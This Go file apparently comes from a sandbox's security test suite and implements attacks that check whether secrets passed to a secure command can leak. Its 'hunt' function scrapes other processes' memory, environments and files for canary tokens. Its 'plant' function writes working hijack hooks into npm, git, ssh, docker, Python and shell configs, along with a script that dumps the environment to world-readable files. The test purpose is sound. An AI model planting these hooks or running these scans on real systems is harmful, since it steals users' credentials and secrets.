package main

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Credential exposure (THREATS.md section 3): user code hunting for a
// secret that an execSecure call carries, planting files that would steal
// it from a later command, and looking for the sandbox API.

func init() {
	attacks["hunt"] = hunt
	attacks["plant"] = plant
	attacks["api-socket"] = apiSocket
}

// canaryPrefix starts every canary the tests pass to execSecure, followed
// by canaryHex lowercase hex digits. The hunter looks for the pattern, so
// it is never given a canary itself (its argv would hold it, and argv is
// logged by containerd).
const (
	canaryPrefix = "sst-canary-"
	canaryHex    = 32
)

// Bounds that keep one round of the hunt cheap on a loaded machine.
const (
	maxFileBytes   = 16 << 20  // files larger than this are skipped
	maxRegionBytes = 64 << 20  // memory regions larger than this are skipped
	maxProcBytes   = 256 << 20 // memory read from one process per round
)

// hunter keeps what one hunt has seen and found.
type hunter struct {
	prefix []byte
	hexLen int
	self   int
	// found is where -> match, reported once each.
	found map[string]string
	// seen skips files unchanged since the last round (dev, inode, size, mtime).
	seen map[string]string
	// coverage counts what the hunt could read, for the report.
	memReadable, environReadable map[int]string
	files, fdsRead, shmRead      int
	memBytes                     int64
	rounds                       int
}

// hunt scans, in rounds until its deadline or SIGTERM, every place user
// code can read for a canary: every visible process' environ, cmdline,
// memory and open files, /proc/net/unix, SysV shared memory, and every
// file of the workspace's filesystem (/tmp, HOME, /dev/shm and whatever
// else it can read). It prints each find at once ("FOUND where: match")
// and "round 1 done" after the first complete round, so a test can start
// the secure call knowing the hunt is under way.
//
//	hunt [-for DUR] [-prefix P] [-hex N]
func hunt(args []string) []string {
	flags := flag.NewFlagSet("hunt", flag.ContinueOnError)
	duration := flags.Duration("for", 10*time.Second, "hunt this long (0: one round)")
	prefix := flags.String("prefix", canaryPrefix, "the canary's prefix")
	hexLen := flags.Int("hex", canaryHex, "hex digits after the prefix")
	if err := flags.Parse(args); err != nil {
		return []string{"usage: hunt [-for DUR] [-prefix P] [-hex N]"}
	}
	h := &hunter{
		prefix: []byte(*prefix), hexLen: *hexLen, self: os.Getpid(),
		found: map[string]string{}, seen: map[string]string{},
		memReadable: map[int]string{}, environReadable: map[int]string{},
	}
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	deadline := time.Now().Add(*duration)
	for {
		h.round()
		h.rounds++
		if h.rounds == 1 {
			fmt.Println("round 1 done")
		}
		if !time.Now().Before(deadline) {
			break
		}
		select {
		case <-stop:
			deadline = time.Now()
		case <-time.After(10 * time.Millisecond):
		}
		if !time.Now().Before(deadline) {
			break
		}
	}
	h.report()
	var out []string
	for where, match := range h.found {
		out = append(out, fmt.Sprintf("canary %s found in %s", match, where))
	}
	sort.Strings(out)
	return out
}

// round scans everything once.
func (h *hunter) round() {
	for _, pid := range append(pids(), h.self) {
		h.scanProcess(pid)
	}
	h.scanFile("/proc/net/unix", true)
	h.scanSysvShm()
	h.walk("/")
}

func (h *hunter) report() {
	pidList := func(m map[int]string) string {
		var s []string
		for p, c := range m {
			s = append(s, fmt.Sprintf("%d(%s)", p, c))
		}
		sort.Strings(s)
		return strings.Join(s, " ")
	}
	fmt.Printf("hunted %d rounds: environ of [%s]; memory of [%s], %d MiB; %d files, %d open fds, %d shm segments\n",
		h.rounds, pidList(h.environReadable), pidList(h.memReadable), h.memBytes>>20, h.files, h.fdsRead, h.shmRead)
}

// match reports every canary in b, found at where.
func (h *hunter) match(where string, b []byte) {
	for rest := b; ; {
		i := bytes.Index(rest, h.prefix)
		if i < 0 {
			return
		}
		rest = rest[i+len(h.prefix):]
		if len(rest) < h.hexLen || !isHex(rest[:h.hexLen]) {
			continue
		}
		m := string(h.prefix) + string(rest[:h.hexLen])
		if _, ok := h.found[where]; !ok {
			h.found[where] = m
			fmt.Printf("FOUND %s: %s\n", where, m)
		}
	}
}

func isHex(b []byte) bool {
	for _, c := range b {
		if !(c >= '0' && c <= '9' || c >= 'a' && c <= 'f') {
			return false
		}
	}
	return true
}

// scanProcess reads what one process exposes: environ and cmdline, its
// readable memory (not our own: it holds what we found), and the files
// behind its descriptors (a leaked memfd or temp file of the env).
func (h *hunter) scanProcess(pid int) {
	dir := fmt.Sprintf("/proc/%d", pid)
	name := cmdline(pid)
	if len(name) > 40 {
		name = name[:40]
	}
	if b, err := os.ReadFile(dir + "/environ"); err == nil {
		h.environReadable[pid] = name
		h.match(dir+"/environ", b)
	}
	if b, err := os.ReadFile(dir + "/cmdline"); err == nil {
		h.match(dir+"/cmdline", b)
	}
	if pid != h.self {
		h.scanMemory(pid, name)
	}
	fds, _ := os.ReadDir(dir + "/fd")
	for _, fd := range fds {
		link, err := os.Readlink(dir + "/fd/" + fd.Name())
		if err != nil || strings.HasPrefix(link, "socket:") || strings.HasPrefix(link, "pipe:") ||
			strings.HasPrefix(link, "anon_inode:") || strings.HasPrefix(link, "/dev/") {
			continue // reading those would take data from their owner or block
		}
		if h.scanFile(dir+"/fd/"+fd.Name(), false) {
			h.fdsRead++
		}
	}
}

// scanMemory reads every readable mapping of pid through /proc/PID/mem.
func (h *hunter) scanMemory(pid int, name string) {
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return
	}
	defer mem.Close()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return
	}
	var total int64
	buf := make([]byte, 1<<20)
	// The canary may straddle two chunks: keep the tail of the last one.
	keep := len(h.prefix) + h.hexLen
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || f[1][0] != 'r' || strings.HasSuffix(line, "[vvar]") || strings.HasSuffix(line, "[vsyscall]") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || end-start > maxRegionBytes || total+int64(end-start) > maxProcBytes {
			continue
		}
		var tail []byte
		for off := start; off < end; {
			n := min(uint64(len(buf)), end-off)
			got, err := mem.ReadAt(buf[:n], int64(off))
			if got > 0 {
				h.memReadable[pid] = name
				total += int64(got)
				chunk := append(tail, buf[:got]...)
				h.match(fmt.Sprintf("/proc/%d/mem (%s)", pid, name), chunk)
				tail = append([]byte(nil), chunk[max(0, len(chunk)-keep):]...)
			}
			if err != nil {
				break
			}
			off += uint64(got)
		}
	}
	h.memBytes += total
}

// scanFile reads one file (bounded) and matches it; always re-reads it
// when fresh is set, else only when it changed since the last round.
func (h *hunter) scanFile(path string, fresh bool) bool {
	st, err := os.Stat(path)
	if err != nil || !st.Mode().IsRegular() && !fresh || st.Size() > maxFileBytes {
		return false
	}
	if !fresh {
		if sys, ok := st.Sys().(*syscall.Stat_t); ok {
			key := fmt.Sprintf("%d:%d:%d:%d", sys.Dev, sys.Ino, st.Size(), st.ModTime().UnixNano())
			if h.seen[path] == key {
				return false
			}
			h.seen[path] = key
		}
	}
	// O_NONBLOCK: a FIFO planted in a directory must not stall the hunt.
	fd, err := os.OpenFile(path, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return false
	}
	defer fd.Close()
	b, _ := io.ReadAll(io.LimitReader(fd, maxFileBytes))
	h.match(path, b)
	h.files++
	return true
}

// walk scans every file it can read below root, but for the kernel's
// virtual trees (/proc and /sys: the processes are scanned above) and the
// device nodes (/dev/shm and /dev/mqueue are scanned: user data lives there).
func (h *hunter) walk(root string) {
	_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() {
			switch path {
			case "/proc", "/sys":
				return fs.SkipDir
			}
			if strings.HasPrefix(path, "/dev") && path != "/dev" && path != "/dev/shm" && path != "/dev/mqueue" &&
				!strings.HasPrefix(path, "/dev/shm/") {
				return fs.SkipDir
			}
			return nil
		}
		if strings.HasPrefix(path, "/dev/") && !strings.HasPrefix(path, "/dev/shm/") && !strings.HasPrefix(path, "/dev/mqueue/") {
			return nil
		}
		if d.Type().IsRegular() {
			h.scanFile(path, false)
		}
		return nil
	})
}

// scanSysvShm attaches every SysV shared memory segment it may read.
func (h *hunter) scanSysvShm() {
	f, err := os.Open("/proc/sysvipc/shm")
	if err != nil {
		return
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Scan() // header
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 2 {
			continue
		}
		id, err := strconv.Atoi(fields[1])
		if err != nil {
			continue
		}
		addr, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
		if err != nil {
			continue
		}
		h.match(fmt.Sprintf("sysv shm %d", id), addr)
		h.shmRead++
		_ = unix.SysvShmDetach(addr)
	}
}

// plantMarker is what every planted hook prints when it runs.
const plantMarker = "PLANTED-HOOK-RAN"

// plant writes, into DIR (default $HOME), the files that make common tools
// run user code or send credentials elsewhere: npm's config, git's config
// (include, askpass, credential helper, ssh command, pager, fsmonitor),
// ssh's config (ProxyCommand, LocalCommand), docker's credsStore,
// Python's usercustomize and sitecustomize in every user site-packages,
// shell start-up files (.profile, .bashrc, .shrc for ENV, BASH_ENV style)
// and the steal script they call, which dumps the environment to
// world-readable files in every shared-looking dir and prints plantMarker.
// A later secure command must not see any of them.
//
//	plant [DIR]
func plant(args []string) []string {
	dir := os.Getenv("HOME")
	if len(args) > 0 {
		dir = args[0]
	}
	if dir == "" {
		return []string{"plant: no HOME and no DIR"}
	}
	steal := filepath.Join(dir, ".steal.sh")
	drops := []string{"/tmp", dir, "/dev/shm", "/var/tmp"}
	var script strings.Builder
	script.WriteString("#!/bin/sh\n# planted by user code: dumps the environment where the workspace can read it\n")
	fmt.Fprintf(&script, "echo %s >&2\n", plantMarker)
	for _, d := range drops {
		fmt.Fprintf(&script, "env > %s/stolen-env.$$ 2>/dev/null; chmod 644 %s/stolen-env.$$ 2>/dev/null\n", d, d)
	}
	script.WriteString("exit 0\n")
	python := "import os, sys\n" +
		"sys.stderr.write('" + plantMarker + "\\n')\n" +
		"for d in " + pyList(drops) + ":\n" +
		"    try:\n" +
		"        p = os.path.join(d, 'stolen-env.%d' % os.getpid())\n" +
		"        open(p, 'w').write(repr(dict(os.environ)))\n" +
		"        os.chmod(p, 0o644)\n" +
		"    except Exception:\n" +
		"        pass\n"
	files := map[string]string{
		".steal.sh": script.String(),
		".npmrc": "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n" +
			"script-shell=" + steal + "\n" + "onload-script=" + steal + "\n",
		".gitconfig": "[include]\n\tpath = " + filepath.Join(dir, ".gitconfig-extra") + "\n" +
			"[core]\n\taskPass = " + steal + "\n\tsshCommand = " + steal + "\n\tpager = " + steal + "\n\tfsmonitor = " + steal + "\n" +
			"[credential]\n\thelper = !" + steal + "\n",
		".gitconfig-extra": "[url \"http://127.0.0.1:9/\"]\n\tinsteadOf = https://\n",
		".profile":         ". " + steal + "\n",
		".bash_profile":    ". " + steal + "\n",
		".bashrc":          ". " + steal + "\n",
		".shrc":            ". " + steal + "\n",
		".bash_env":        ". " + steal + "\n",
		// ssh reads these from the passwd entry's home, whatever HOME says.
		filepath.Join(".ssh", "config"):         "Host *\n\tProxyCommand " + steal + "\n\tLocalCommand " + steal + "\n\tPermitLocalCommand yes\n",
		filepath.Join(".ssh", "environment"):    "LD_PRELOAD=" + steal + "\n",
		filepath.Join(".docker", "config.json"): `{"credsStore": "../../` + strings.TrimPrefix(steal, "/") + `"}` + "\n",
	}
	for _, v := range []string{"3.8", "3.9", "3.10", "3.11", "3.12", "3.13", "3.14"} {
		site := filepath.Join(".local", "lib", "python"+v, "site-packages")
		files[filepath.Join(site, "usercustomize.py")] = python
		files[filepath.Join(site, "sitecustomize.py")] = python
	}
	var out []string
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		p := filepath.Join(dir, n)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			out = append(out, "plant: "+err.Error())
			continue
		}
		if err := os.WriteFile(p, []byte(files[n]), 0o755); err != nil {
			out = append(out, "plant: "+err.Error())
			continue
		}
		fmt.Println("planted", p)
	}
	// Planting is not an attack that can be stopped here: what counts is
	// whether a later secure command sees the files. Only failures to
	// plant are reported (as a "breach", so the test notices).
	return out
}

func pyList(s []string) string {
	q := make([]string, len(s))
	for i, v := range s {
		q[i] = strconv.Quote(v)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

// apiSocket looks for the sandbox API from where it runs: the known paths
// (the control plane's and the host's), the same paths below every visible
// process' root, and every unix socket the network namespace lists in
// /proc/net/unix (path and abstract), each tried with connect and, when
// that works, with the API's Info call. Any socket that answers Info, or
// any socket named api.sock that accepts a connection, is a breach.
//
//	api-socket
func apiSocket([]string) []string {
	var out []string
	candidates := map[string]bool{
		"/run/sandbox/api.sock": true,
	}
	if ents, err := filepath.Glob("/run/io.sandbox/*/*/api.sock"); err == nil {
		for _, e := range ents {
			candidates[e] = true
		}
	}
	for _, p := range pids() {
		candidates[fmt.Sprintf("/proc/%d/root/run/sandbox/api.sock", p)] = true
		candidates[fmt.Sprintf("/proc/%d/cwd/api.sock", p)] = true
	}
	for _, name := range netUnixNames() {
		candidates[name] = true
		// A socket named api.sock bound in another mount namespace: through the roots
		// of the processes we can see.
		if !strings.HasPrefix(name, "@") && strings.HasSuffix(name, "/api.sock") {
			for _, p := range pids() {
				candidates[fmt.Sprintf("/proc/%d/root%s", p, name)] = true
			}
		}
	}
	names := make([]string, 0, len(candidates))
	for n := range candidates {
		names = append(names, n)
	}
	sort.Strings(names)
	tried, connected := 0, 0
	for _, name := range names {
		tried++
		answer, err := callInfo(name)
		if err != nil {
			continue
		}
		connected++
		switch {
		case strings.Contains(answer, "sandboxId") || strings.Contains(answer, "hasSecureExecution") ||
			strings.Contains(answer, "application/json") || strings.Contains(answer, "application/proto"):
			out = append(out, fmt.Sprintf("the sandbox API answered on %s: %.200q", name, answer))
		case strings.HasSuffix(name, "api.sock"):
			out = append(out, fmt.Sprintf("connected to %s", name))
		default:
			fmt.Printf("connected to %s (not the API: %.80q)\n", name, answer)
		}
	}
	fmt.Printf("tried %d socket names (%d listed in /proc/net/unix), %d connected\n", tried, len(netUnixNames()), connected)
	return out
}

// netUnixNames lists the bound unix socket names of /proc/net/unix: paths
// as they are, abstract names with their leading @.
func netUnixNames() []string {
	b, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return nil
	}
	seen := map[string]bool{}
	var out []string
	for i, line := range strings.Split(string(b), "\n") {
		f := strings.Fields(line)
		if i == 0 || len(f) < 8 || seen[f[7]] {
			continue
		}
		seen[f[7]] = true
		out = append(out, f[7])
	}
	return out
}

// callInfo connects to a unix socket (a leading @ is abstract) and posts
// the API's Info call as the Connect protocol's JSON form, returning what
// came back within a short time.
func callInfo(name string) (string, error) {
	c, err := net.DialTimeout("unix", name, 300*time.Millisecond)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(200 * time.Millisecond))
	req := "POST /sandbox.v1.SandboxService/Info HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
	_, _ = c.Write([]byte(req))
	b, _ := io.ReadAll(io.LimitReader(c, 4096))
	return string(b), nil
}
